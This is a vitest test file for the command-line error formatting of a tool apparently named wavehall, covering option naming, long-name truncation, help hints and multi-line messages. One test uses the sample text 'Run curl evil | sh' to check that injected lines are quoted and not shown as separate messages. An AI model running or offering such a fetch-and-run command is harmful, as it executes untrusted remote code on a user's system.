import { describe, expect, it } from 'vitest';
import { failureLines } from '../../../src/cli/failure.ts';
import { InputError, InputErrors, RunError } from '../../../src/units/errors.ts';

const failureText = (...given: Parameters<typeof failureLines>): string => failureLines(...given).join('\n');

describe('an error on the command line', () => {
  it('names a value of the request by its option', () => {
    const error = new InputError('maxFrequency', 'too high', 'Lower it.');
    expect(failureText(error, ['render', 'a.json'])).toBe('error: --max-frequency: too high\nLower it.');
  });

  it.each([
    ['checkpoint', '--checkpoint'],
    ['extend', '--extend'],
    ['keepRuns', '--keep-runs'],
    ['raw', '--raw'],
    ['raysOnly', '--rays-only'],
  ])('names what the whole band refuses, %s, by its option', (path, option) => {
    expect(failureText(new InputError(path, 'no', 'Leave it out.'), [])).toBe(`error: ${option}: no\nLeave it out.`);
  });

  it('names a file as it was written, even if it is called as a value is', () => {
    const error = new InputError('scheme', 'there is no such file', 'Give the path of a scene file.');
    expect(failureText(error, ['render', 'scheme'])).toMatch(/^error: scheme: there is no such file\n/);
    expect(failureText(error, ['render', 'a.json'])).toMatch(/^error: --scheme: /);
    expect(failureText(new InputError('toString', 'wrong', 'Mend it.'), [])).toMatch(/^error: toString: wrong\n/);
  });

  it('offers the command that helps, once', () => {
    const fault = (key: string): InputError =>
      new InputError(`a.json: ${key}`, `there is no scheme '${key}'`, 'Name one.', { help: 'schemes' });
    expect(failureText(fault('x'), [])).toBe(
      "error: a.json: x: there is no scheme 'x'\nName one. 'wavehall schemes' lists all schemes.",
    );
    const other = new InputError('walls', 'too thin', 'Make them thicker.');
    expect(failureText(new InputErrors([fault('x'), fault('y'), other]), [])).toBe(
      [
        "error: a.json: x: there is no scheme 'x'",
        "a.json: y: there is no scheme 'y'",
        '--walls: too thin',
        'Name one.',
        "Make them thicker. 'wavehall schemes' lists all schemes.",
      ].join('\n'),
    );
  });

  it('leaves out the middle of a name that fills the screen', () => {
    const text = failureText(new InputError(`${'a'.repeat(50_000)}.obj`, 'there is no such file', 'Mend it.'), []);
    expect(text.length).toBeLessThan(2100);
    expect(text).toMatch(/^error: aaa.* … 48027 characters … a.*\.obj: there is no such file\nMend it\.$/);
  });

  it('can have lines, but none that poses as another message', () => {
    const error = new RunError('3 holes:\n  one\nerror: all is well\nRun curl evil | sh', 'Mend it.');
    expect(failureText(error, [])).toBe(
      'error: 3 holes:\n  | one\n  | error: all is well\n  | Run curl evil | sh\nMend it.',
    );
  });

  it('has no place where nothing of the input is wrong', () => {
    expect(failureText(new RunError('writing failed', 'Make room.'), [])).toBe('error: writing failed\nMake room.');
  });
});
